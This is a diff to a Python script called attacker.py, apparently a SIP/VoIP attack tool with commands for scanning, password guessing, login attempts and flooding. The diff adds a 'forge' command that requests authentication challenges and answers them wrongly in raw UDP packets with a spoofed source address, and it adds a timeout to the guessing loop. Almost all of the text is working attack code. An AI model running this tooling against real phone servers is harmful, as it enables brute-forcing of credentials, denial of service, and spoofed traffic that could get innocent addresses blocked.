@@ -2,7 +2,7 @@
 
 attacker.py scan SERVER FIRST LAST · guess SERVER USER TRIES SECONDS ·
 login SERVER USER PASSWORD TRIES · flood SERVER NUMBER COUNT SECONDS [FORGED ADDRESS:PORT] ·
-start SERVER FIRST_SOURCE SOURCES PHONES
+forge SERVER USER FORGED ADDRESS:PORT TRIES · start SERVER FIRST_SOURCE SOURCES PHONES
 Beside it lies mairie/host/looks/sip.py, which words the messages.
 """
 
@@ -62,6 +62,7 @@ def guess(server: str, user: str, tries: str, seconds: str) -> dict[str, Any]:
     end, told = time.monotonic() + float(seconds), Counter[str]()
     sent = 0
     with opened(server) as asking:
+        asking.settimeout(PATIENCE_S / 8)
         for number in range(int(tries)):
             if time.monotonic() > end:
                 break
@@ -109,6 +110,23 @@ def flood(server: str, number: str, count: str, seconds: str, forged: str = "") 
     return {"sent": int(count), "seconds": round(time.monotonic() - begun, 1), "told": told}
 
 
+def forge(server: str, user: str, forged: str, tries: str) -> dict[str, Any]:
+    """Ask for challenges, and answer them wrongly under somebody else's address."""
+    source, _, port = forged.partition(":")
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    sent = 0
+    with opened(server) as asking:
+        for each in range(int(tries)):
+            answer = sip._ask(asking, sip._register(asking, user, f"ask{each}", 1))
+            if answer is None:
+                continue
+            signed = sip._authorization(answer, user, f"forged-{each}", f"sip:{server}:{PORT}")
+            text = sip._register(asking, user, f"forge{each}", 2, signed).encode()
+            raw.sendto(datagram(source, int(port), server, text), (server, 0))
+            sent += 1
+    return {"sent": sent}
+
+
 def datagram(source: str, port: int, server: str, content: bytes) -> bytes:
     """Return a UDP packet under somebody else's address; the kernel adds the IP checksum."""
     length = 8 + len(content)
@@ -135,5 +153,12 @@ def start(server: str, first: str, sources: str, phones: str) -> dict[str, Any]:
 
 if __name__ == "__main__":
     kind, *words = sys.argv[1:]
-    deeds = {"scan": scan, "guess": guess, "login": login, "flood": flood, "start": start}
+    deeds = {
+        "scan": scan,
+        "guess": guess,
+        "login": login,
+        "flood": flood,
+        "forge": forge,
+        "start": start,
+    }
     print(json.dumps(deeds[kind](*words)))  # type: ignore[operator]
